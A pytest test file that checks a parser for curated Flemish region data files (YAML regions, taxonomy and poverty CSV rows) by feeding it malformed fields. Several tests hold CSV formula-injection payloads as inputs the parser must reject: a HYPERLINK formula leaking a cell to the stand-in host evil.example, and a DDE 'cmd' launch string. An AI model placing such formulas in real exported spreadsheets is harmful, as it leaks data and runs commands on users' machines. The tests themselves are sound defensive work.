"""models.parse: a well-formed region file passes, every malformed field is a Problem at its path."""

import copy

import pytest

from dashboard.builder import models

FILE = "data/curated/regions/brugs-ommeland.yaml"

VALID = {
    "region_id": "brugs-ommeland",
    "name": "Brugs Ommeland",
    "provinces": ["West-Vlaanderen"],
    "source_id": "brugs-ommeland",
    "method": {"summary_nl": "Een proefregio.", "quote": "Lokaal werkingsgebied: Brugge"},
    "stated_figures": [{"figure_id": "oppervlakte", "value": 138.4, "unit": "km²", "quote": "138,4 km²"}],
    "municipalities": [{"nis_code": "31005", "name": "Brugge", "population_stated": 119000, "quote": "Brugge"}],
    "challenges": [{
        "challenge_rank": 1, "title": "Vluchtelingen", "is_title_derived": True,
        "quote": "Regio-uitdaging 1 gebaseerd op persona Saled en Nora", "persona_ids": ["saled", "nora"],
    }],
    "persona_facts": [{"persona_id": "saled", "challenge_rank": 1, "statement_nl": "Vluchteling.", "quote": "vluchteling"}],
    "obstacles": [{"obstacle_id": "taal", "challenge_rank": 1, "section": "uitdaging", "quote": "Beperkte kennis"}],
    "service_types": [{"service_type_id": "taal-oefenkansen", "challenge_rank": None, "section": "verrijking",
                       "importance_rank": 2, "quote": "Oefenkansen"}],
    "obstacle_service_links": [{"obstacle_id": "taal", "service_type_id": "taal-oefenkansen", "link_kind": "stated",
                                "quote": "Oefenkansen"}],
    "timeline": [{"event": "lancering", "date_start": "2023-05-05", "date_end": None, "is_year_inferred": False,
                  "quote": "vrijdag 5 mei 2023"}],
}


def _parse(data):
    problems = []
    return models.parse(models.RegionFile, data, FILE, "", problems), problems


def _with(path: str, value):
    """VALID with the field at ``path`` ("challenges.0.title") set to ``value``."""
    data = copy.deepcopy(VALID)
    *parents, last = path.split(".")
    target = data
    for part in parents:
        target = target[int(part)] if part.isdigit() else target[part]
    target[int(last) if last.isdigit() else last] = value
    return data


def _without(path: str):
    data = copy.deepcopy(VALID)
    *parents, last = path.split(".")
    target = data
    for part in parents:
        target = target[int(part)] if part.isdigit() else target[part]
    del target[last]
    return data


def _only(problems):
    assert len(problems) == 1, problems
    assert problems[0].file == FILE
    return problems[0]


def test__parse__valid_region_file_passes():
    region, problems = _parse(VALID)
    assert problems == []
    assert isinstance(region, models.RegionFile)
    assert region.municipalities[0].nis_code == "31005"
    assert region.challenges[0].persona_ids == ["saled", "nora"]
    assert str(region.timeline[0].date_start) == "2023-05-05"


@pytest.mark.parametrize("figure_id", ["area_km2", "density_per_km2"])
def test__parse__figure_id_documented_in_the_readme_passes(figure_id):
    region, problems = _parse(_with("stated_figures.0.figure_id", figure_id))
    assert problems == []


def test__parse__optional_lists_may_be_left_out():
    data = {k: v for k, v in VALID.items() if k not in (
        "stated_figures", "persona_facts", "obstacles", "service_types", "obstacle_service_links", "timeline")}
    region, problems = _parse(data)
    assert problems == []
    assert region.obstacles == []


def test__parse__strips_whitespace_around_text():
    region, problems = _parse(_with("name", "  Brugs Ommeland \n"))
    assert problems == []
    assert region.name == "Brugs Ommeland"


def test__parse__uppercase_slug_is_rejected():
    region, problems = _parse(_with("region_id", "Brugs-Ommeland"))
    assert region is None
    problem = _only(problems)
    assert problem.record == "region_id"
    assert "pattern" in problem.message and "'Brugs-Ommeland'" in problem.message


def test__parse__slug_with_space_in_a_list_is_rejected_at_its_index():
    region, problems = _parse(_with("challenges.0.persona_ids", ["saled", "nora x"]))
    assert region is None
    assert _only(problems).record == "challenges[0].persona_ids[1]"


@pytest.mark.parametrize("nis_code", ["3500", "ABCDE", "350133", " 3501"])
def test__parse__malformed_nis_code_is_rejected(nis_code):
    region, problems = _parse(_with("municipalities.0.nis_code", nis_code))
    assert region is None
    problem = _only(problems)
    assert problem.record == "municipalities[0].nis_code"
    assert "pattern" in problem.message
    assert repr(nis_code) in problem.message


def test__parse__unquoted_nis_code_is_rejected():
    """YAML reads 35013 without quotes as an int; the README asks for a quoted string."""
    region, problems = _parse(_with("municipalities.0.nis_code", 35013))
    assert region is None
    assert _only(problems).record == "municipalities[0].nis_code"


def test__parse__negative_population_stated_is_rejected():
    region, problems = _parse(_with("municipalities.0.population_stated", -1))
    assert region is None
    problem = _only(problems)
    assert problem.record == "municipalities[0].population_stated"
    assert "greater than or equal to 0" in problem.message


def test__parse__non_numeric_population_stated_is_rejected():
    region, problems = _parse(_with("municipalities.0.population_stated", "veel"))
    assert region is None
    problem = _only(problems)
    assert problem.record == "municipalities[0].population_stated"
    assert "integer" in problem.message and "'veel'" in problem.message


def test__parse__unknown_section_is_rejected():
    region, problems = _parse(_with("obstacles.0.section", "elders"))
    assert region is None
    problem = _only(problems)
    assert problem.record == "obstacles[0].section"
    assert "'uitdaging'" in problem.message and "'elders'" in problem.message


def test__parse__link_must_say_how_it_is_known():
    data = copy.deepcopy(VALID)
    del data["obstacle_service_links"][0]["link_kind"]
    _, problems = _parse(data)
    assert _only(problems).record == "obstacle_service_links[0].link_kind"


def test__parse__link_kind_outside_the_three_kinds_is_rejected():
    _, problems = _parse(_with("obstacle_service_links.0.link_kind", "guessed"))
    problem = _only(problems)
    assert "'stated'" in problem.message and "'guessed'" in problem.message


def test__parse__timeline_date_flags_default_to_a_date_as_written():
    region, problems = _parse(_with("timeline.0.is_date_upper_bound", True))
    assert problems == []
    assert region.timeline[0].is_date_upper_bound is True and region.timeline[0].is_date_derived is False


def test__parse__focus_section_passes():
    region, problems = _parse(_with("obstacles.0.section", "focus"))
    assert problems == [] and region.obstacles[0].section == "focus"


def test__parse__unknown_timeline_event_is_rejected():
    region, problems = _parse(_with("timeline.0.event", "startdag"))
    assert region is None
    problem = _only(problems)
    assert problem.record == "timeline[0].event"
    assert "'lancering'" in problem.message and "'startdag'" in problem.message


@pytest.mark.parametrize("date", ["31 juni", "2023-06-31", "5/5/2023"])
def test__parse__unparseable_date_is_rejected(date):
    region, problems = _parse(_with("timeline.0.date_start", date))
    assert region is None
    problem = _only(problems)
    assert problem.record == "timeline[0].date_start"
    assert "date" in problem.message


def test__parse__missing_required_field_is_rejected():
    region, problems = _parse(_without("challenges.0.title"))
    assert region is None
    problem = _only(problems)
    assert problem.record == "challenges[0].title"
    assert "required" in problem.message.lower()


def test__parse__missing_quote_is_rejected():
    region, problems = _parse(_without("obstacles.0.quote"))
    assert region is None
    assert _only(problems).record == "obstacles[0].quote"


def test__parse__blank_quote_is_rejected():
    region, problems = _parse(_with("method.quote", "   "))
    assert region is None
    assert _only(problems).record == "method.quote"


def test__parse__persona_ids_as_a_string_is_rejected():
    """pydantic does not turn "saled" into ["saled"]: a string where a list belongs is an error."""
    region, problems = _parse(_with("challenges.0.persona_ids", "saled"))
    assert region is None
    problem = _only(problems)
    assert problem.record == "challenges[0].persona_ids"
    assert "valid list" in problem.message


def test__parse__empty_persona_ids_is_rejected():
    region, problems = _parse(_with("challenges.0.persona_ids", []))
    assert region is None
    assert _only(problems).record == "challenges[0].persona_ids"


def test__parse__non_boolean_flag_is_rejected():
    region, problems = _parse(_with("challenges.0.is_title_derived", "misschien"))
    assert region is None
    assert _only(problems).record == "challenges[0].is_title_derived"


def test__parse__challenge_rank_0_is_rejected():
    region, problems = _parse(_with("challenges.0.challenge_rank", 0))
    assert region is None
    problem = _only(problems)
    assert problem.record == "challenges[0].challenge_rank"
    assert "greater than or equal to 1" in problem.message


def test__parse__importance_rank_0_is_rejected():
    region, problems = _parse(_with("service_types.0.importance_rank", 0))
    assert region is None
    assert _only(problems).record == "service_types[0].importance_rank"


def test__parse__misspelt_field_is_rejected():
    data = _with("obstacles.0.challange_rank", 1)
    region, problems = _parse(data)
    assert region is None
    problem = _only(problems)
    assert problem.record == "obstacles[0].challange_rank"
    assert "Extra inputs are not permitted" in problem.message


def test__parse__contact_field_is_rejected():
    region, problems = _parse(_with("contact_email", "jan.peeters@example.be"))
    assert region is None
    assert _only(problems).record == "contact_email"


def test__parse__no_municipalities_is_rejected():
    region, problems = _parse(_with("municipalities", []))
    assert region is None
    assert _only(problems).record == "municipalities"


def test__parse__every_error_of_a_file_is_reported():
    data = _with("region_id", "Brugge")
    data["municipalities"][0]["nis_code"] = "3500"
    data["timeline"][0]["event"] = "startdag"
    region, problems = _parse(data)
    assert region is None
    assert {p.record for p in problems} == {"region_id", "municipalities[0].nis_code", "timeline[0].event"}
    assert all(p.file == FILE for p in problems)


def test__parse__record_prefix_is_kept_for_csv_rows():
    problems = []
    row = {"persona_id": "Saled", "name": "Saled"}
    assert models.parse(models.PersonaRow, row, "data/curated/taxonomy/personas.csv", "row 4", problems) is None
    assert [(p.file, p.record) for p in problems] == [("data/curated/taxonomy/personas.csv", "row 4.persona_id")]


def test__parse__long_input_is_shortened_in_the_message():
    region, problems = _parse(_with("region_id", "X" * 200))
    assert region is None
    problem = _only(problems)
    assert "X" * 200 not in problem.message
    assert "..." in problem.message


def test__parse__source_entry_needs_a_hex_sha256():
    problems = []
    entry = {"source_id": "brugs-ommeland", "region_id": "brugs-ommeland", "title": "T", "call": "C",
             "launch_date": "2023-05-05", "is_launch_year_inferred": False, "original_file": "x.txt",
             "original_sha256": "Z" * 64}
    assert models.parse(models.SourceEntry, entry, "data/curated/sources.yaml", "record 1", problems) is None
    assert [p.record for p in problems] == ["record 1.original_sha256"]


def test__parse__group_fact_without_challenge_or_with_a_persona_is_a_problem():
    group = {"fact_level": "group", "challenge_rank": 1, "statement_nl": "Ze zijn vluchteling.", "quote": "vluchteling"}
    assert _parse(_with("persona_facts", [group]))[1] == []
    for wrong in ({**group, "challenge_rank": None}, {**group, "persona_id": "saled"}, {**group, "fact_level": "gezin"}):
        assert _only(_parse(_with("persona_facts", [wrong]))[1]).record.startswith("persona_facts[0]")


def test__parse__persona_fact_without_persona_is_a_problem():
    problem = _only(_parse(_without("persona_facts.0.persona_id"))[1])
    assert problem.record.startswith("persona_facts[0]") and "persona_id" in problem.message


@pytest.mark.parametrize("field", ["eligible_persons", "not_eligible_persons", "median_eur"])
def test__parse__poverty_figure_beyond_int64_is_a_problem_not_an_overflow(field):
    row = {"nis_code": "32003", "name_nl": "Diksmuide", "year": "2019", "eligible_persons": "16649", "not_eligible_persons": "190",
           "pct_not_eligible": "1.1", "pct_ioe_households": "0.1", "q1_eur": "19502", "median_eur": "25339", "q3_eur": "31557",
           "interquartile_eur": "12055", "admin_arop_pct": "8"}
    problems = []
    assert models.parse(models.PovertyRow, row, "poverty.csv", "row 2", problems) is not None and problems == []
    assert models.parse(models.PovertyRow, {**row, field: "9" * 23}, "poverty.csv", "row 2", problems) is None
    assert [(p.record, p.message.split(" (")[0]) for p in problems] == [
        (f"row 2.{field}", "Input should be less than or equal to 10000000")]


@pytest.mark.parametrize("label", ['=HYPERLINK("http://evil.example/?x="&A2;"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
                                   "-2+3", "\tTab", "\rReturn", "  =1+1"])
@pytest.mark.parametrize("path", ["name", "challenges.0.title", "municipalities.0.name"])
def test__parse__label_that_starts_like_a_formula_is_rejected(path, label):
    region, problems = _parse(_with(path, label))
    assert region is None
    problem = _only(problems)
    assert problem.record == path.replace(".0.", "[0].") and "formula" in problem.message


@pytest.mark.parametrize("model, field", [(models.ObstacleRow, "label_nl"), (models.ServiceTypeRow, "label_en"),
                                          (models.PersonaRow, "name")])
def test__parse__taxonomy_label_that_starts_like_a_formula_is_rejected(model, field):
    row = {name: "x" for name in model.model_fields} | {name: "a" for name in model.model_fields if name.endswith("_id")}
    problems = []
    assert models.parse(model, row, "taxonomy.csv", "row 2", problems) is not None and problems == []
    assert models.parse(model, row | {field: "=1+1"}, "taxonomy.csv", "row 2", problems) is None
    assert [p.record for p in problems] == [f"row 2.{field}"]


def test__parse__label_with_a_formula_sign_inside_passes():
    region, problems = _parse(_with("challenges.0.title", "Jongeren 18-25 = NEET"))
    assert problems == [] and region.challenges[0].title == "Jongeren 18-25 = NEET"


@pytest.mark.parametrize("label", ['Taal <a href="http://evil.example">klik</a>', "Taal <b>vet</b>", "x > y"])
@pytest.mark.parametrize("path", ["name", "challenges.0.title"])
def test__parse__label_holding_markup_is_rejected(path, label):
    region, problems = _parse(_with(path, label))
    assert region is None
    assert "markup" in _only(problems).message
